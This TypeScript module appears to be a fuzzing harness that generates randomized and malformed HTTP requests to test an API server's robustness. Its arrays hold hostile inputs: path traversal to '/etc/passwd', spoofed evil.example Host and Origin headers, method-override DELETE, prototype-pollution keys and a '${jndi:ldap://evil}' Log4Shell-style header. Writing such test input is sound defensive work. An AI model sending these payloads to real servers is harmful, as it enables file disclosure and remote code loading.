import type { Body } from './bodies.ts';
import { bodyOf } from './bodies.ts';
import { endsTheWorld } from './operations.ts';
import type { Operation } from './operations.ts';
import { hostileValues, pick } from './values.ts';
import type { Random, Sample } from './values.ts';
import type { Message } from './wire.ts';

export type WayIn = {
  name: string;
  /** May do nothing that ends the world. */
  harmless: boolean;
  headers: Record<string, string>;
};
export type Request = {
  method: string;
  /** As sent. */
  target: string;
  way: string;
  what: string;
  keepAlive: boolean;
  message: Message;
};

type Deps = { operations: readonly Operation[]; waysIn: readonly WayIn[]; sample: Sample; host: string };

const MANNERS = [
  'plain',
  'plain',
  'plain',
  'plain',
  'pipelined',
  'in pieces',
  'chunked',
  'broken chunks',
  'cut off',
] as const;
/** Of a body, by the server. */
const MOST_READ = 256 * 1024;
const OTHER_METHODS = ['PUT', 'DELETE', 'POST', 'GET', 'HEAD', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND'];

/** The same random numbers make the same request. */
export function makeRequest(
  { operations, waysIn, sample, host }: Deps,
  random: Random,
  number: number,
): Request {
  const operation = pick(operations, random);
  const ways = endsTheWorld(operation) ? waysIn.filter(({ harmless }) => harmless) : waysIn;
  const way = pick(ways, random);
  const other = random() < 0.04 && !endsTheWorld(operation);
  const method = other ? pick(OTHER_METHODS, random) : operation.method;
  const target = targetOf(operation, sample, random);
  const body = bodyOf(operation, sample, random);
  const sends = method !== 'GET' && method !== 'HEAD' ? true : random() < 0.05;
  const manner = method === 'HEAD' ? 'plain' : pick(MANNERS, random);
  const keepAlive = random() < 0.6 && manner !== 'cut off' && manner !== 'broken chunks';
  const headers: Record<string, string> = {
    host,
    // An address each, so that limits by address leave later requests alone.
    'x-forwarded-for': `10.${(number >> 16) & 255}.${(number >> 8) & 255}.${number & 255}`,
    connection: keepAlive ? 'keep-alive' : 'close',
    ...way.headers,
    ...(sends ? body.headers : {}),
    ...(random() < 0.25 ? pick(oddHeaders, random) : {}),
  };
  const content = sends ? body : { ...body, bytes: Buffer.alloc(0), what: 'no body' };
  const message = messageOf({ method, target, headers, content, manner, sends });
  return { method, target, way: way.name, what: `${manner}, ${content.what}`, keepAlive, message };
}

function targetOf({ path, params, query }: Operation, sample: Sample, random: Random): string {
  const filled = path.replaceAll(/\{(\w+)\}/g, (_all, name: string) => {
    const value = random() < 0.8 ? sample(params[name] ?? {}, random) : pick(hostileValues, random);
    return encodeURIComponent(text(value).slice(0, 4_000)) || 'x';
  });
  const asked = query
    .filter(() => random() < 0.6)
    .map(({ name, schema }) => {
      const value = random() < 0.7 ? sample(schema, random) : pick(hostileValues, random);
      return `${name}=${encodeURIComponent(text(value).slice(0, 4_000))}`;
    });
  if (random() < 0.05)
    asked.push(pick(['__proto__=1', 'x=1', '=', '&&', 'q[]=1', '%', 'limit=1&limit=2'], random));
  const target = asked.length === 0 ? filled : `${filled}?${asked.join('&')}`;
  return random() < 0.06 ? pick(pathTricks, random)(target) : target;
}

/** Lone surrogates have no encoding. */
function text(value: unknown): string {
  return (typeof value === 'string' ? value : (JSON.stringify(value) ?? '')).toWellFormed();
}

const pathTricks: readonly ((target: string) => string)[] = [
  (target) => target.replace('/api/', '/api/../api/'),
  (target) => target.replace('/api/', '/api/%2e%2e/api/'),
  (target) => target.replace('/api/', '//api//'),
  (target) => target.replace('/api/', '/API/'),
  (target) => target.replace('/api/', '/api/./'),
  (target) => target.replace('/api/', '/api\\'),
  (target) => target.replace('/api/', '/api;x=1/'),
  (target) => target.replace('/api/', 'http://evil.example/api/'),
  (target) => target.replace('/api/', '/%61pi/'),
  (target) => `${target}%00`,
  (target) => `${target}%zz`,
  (target) => `${target}/`,
  (target) => `${target}.json`,
  (target) => `${target}?${'x'.repeat(6_000)}=1`,
  (target) => `${target}/%2e%2e%2f%2e%2e%2fetc/passwd`,
  (target) => `${target}#fragment`,
  () => '/',
  () => '/index.html/../../server/package.json',
  () => '*',
];

const oddHeaders: readonly Record<string, string>[] = [
  { host: 'evil.example' },
  { origin: 'https://evil.example' },
  { origin: 'null' },
  { 'sec-fetch-site': 'cross-site' },
  { 'x-http-method-override': 'DELETE' },
  { 'x-forwarded-for': '__proto__, ::ffff:1.2.3.4, 999.1.1.1' },
  { 'x-forwarded-proto': 'javascript' },
  { 'x-forwarded-host': 'evil.example\u00e9' },
  { 'if-none-match': '*' },
  { 'if-none-match': 'W/"'.repeat(200) },
  { 'accept-encoding': 'br;q=2, gzip;q=-1, *;q=0' },
  { accept: 'text/html;q=0.1, */*;q=\u00ff' },
  { range: 'bytes=0-0,1-1,-1' },
  { 'idempotency-key': 'k'.repeat(300) },
  { 'idempotency-key': 'same for everything' },
  { 'idempotency-key': '\u00e9' },
  { 'x-csrf-token': 'x' },
  { 'x-request-id': '../../x\u00e9' },
  { 'last-event-id': '__proto__.99999999999999999999' },
  { expect: '100-continue' },
  { expect: 'the impossible' },
  { upgrade: 'websocket', connection: 'upgrade' },
  { cookie: 'a=b; '.repeat(1_000) },
  { cookie: '__proto__=x; ;=;' },
  { 'x-big': 'y'.repeat(20_000) },
  { authorization: 'Basic YTpi' },
  { authorization: 'Bearer \u00e9' },
  { 'user-agent': '\u001b[2J${jndi:ldap://evil}' },
];

function messageOf(made: {
  method: string;
  target: string;
  headers: Record<string, string>;
  content: Body;
  manner: (typeof MANNERS)[number];
  sends: boolean;
}): Message {
  const { method, target, headers, content, manner, sends } = made;
  const { bytes } = content;
  const head = (more: Record<string, string>): Buffer => {
    const lines = Object.entries({ ...headers, ...more }).map(([name, value]) => `${name}: ${value}\r\n`);
    return Buffer.from(`${method} ${target} HTTP/1.1\r\n${lines.join('')}\r\n`, 'latin1');
  };
  const length: Record<string, string> = sends ? { 'content-length': String(bytes.length) } : {};
  const whole = Buffer.concat([head(length), bytes]);
  const base = { pauseMs: 0, answers: 1, halfClose: false, head: method === 'HEAD' };
  const third = Math.ceil(bytes.length / 3);
  const parts = [bytes.subarray(0, third), bytes.subarray(third, 2 * third), bytes.subarray(2 * third)];
  const chunk = (part: Buffer): Buffer =>
    Buffer.concat([Buffer.from(`${part.length.toString(16)}\r\n`), part, Buffer.from('\r\n')]);
  const chunked = head({ 'transfer-encoding': 'chunked' });
  switch (sends ? manner : manner === 'pipelined' ? manner : 'plain') {
    case 'pipelined': {
      // A refused body ends the connection: what is still on its way behind it takes the answer along.
      const count = bytes.length > MOST_READ ? 1 : 3;
      return { ...base, pieces: [Buffer.concat(Array.from({ length: count }, () => whole))], answers: count };
    }
    case 'in pieces':
      return { ...base, pieces: [head(length), ...parts], pauseMs: 40 };
    case 'chunked': {
      const full = parts.filter((part) => part.length > 0).map(chunk);
      return { ...base, pieces: [chunked, ...full, Buffer.from('0\r\n\r\n')] };
    }
    case 'broken chunks':
      return { ...base, pieces: [chunked, Buffer.from('zz\r\n'), bytes], halfClose: true };
    case 'cut off':
      return {
        ...base,
        pieces: [head({ 'content-length': String(bytes.length + 10) }), bytes],
        halfClose: true,
      };
    default:
      return { ...base, pieces: [whole] };
  }
}
